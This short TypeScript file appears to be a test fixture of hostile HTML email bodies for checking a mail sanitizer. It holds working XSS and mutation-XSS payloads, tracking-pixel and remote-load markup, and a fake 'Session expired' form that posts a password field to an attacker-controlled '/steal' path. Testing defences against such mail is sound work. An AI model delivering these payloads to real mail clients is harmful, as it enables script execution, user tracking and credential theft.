/** Mails that try to run scripts or to send requests. `evil` is the origin of a server that counts requests. */
export const hostileMails: Readonly<Record<string, (evil: string) => string>> = {
  script: () =>
    `<script>top.pwned=1</script><img src=x onerror="top.pwned=2"><svg onload="top.pwned=3"><script>top.pwned=4</script></svg><details open ontoggle="top.pwned=5">x</details>`,
  links: (evil) =>
    `<a href="javascript:top.pwned=7">a</a><a href="${evil}/ping" ping="${evil}/ping" target=_top></a><svg><a xlink:href="javascript:top.pwned=9"><text y=20>d</text></a></svg>`,
  css: (evil) =>
    `<style>@import url(${evil}/a.css);@font-face{font-family:x;src:url(${evil}/f.woff2)}body{background:url(${evil}/b.png);font-family:x}</style><link rel=stylesheet href="${evil}/l.css"><p style="background-image:url(${evil}/i.png);position:fixed;inset:0">over all</p>`,
  pixels: (evil) =>
    `<img src="${evil}/p.gif" width=1><img srcset="${evil}/s.png 1x"><picture><source srcset="${evil}/q.png"><img></picture><video poster="${evil}/v.png" src="${evil}/v.mp4" autoplay></video><table background="${evil}/t.png"><tr><td>x</table><svg><image href="${evil}/svg.png"/></svg><input type=image src="${evil}/in.png">`,
  embeds: (evil) =>
    `<meta http-equiv=refresh content="0;url=${evil}/meta"><base href="${evil}/"><link rel=prefetch href="${evil}/pf"><iframe src="${evil}/if"></iframe><iframe srcdoc="<script>top.pwned=10</script>"></iframe><object data="${evil}/ob"></object><embed src="${evil}/em">`,
  form: (evil) =>
    `<form action="${evil}/steal" method=post><input name=pw autofocus value=1><button formaction="${evil}/fa">Sign in again</button></form><dialog open>Session expired</dialog>`,
  mutation: () =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=top.pwned=11&gt;"></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=top.pwned=12>"></noscript>`
}
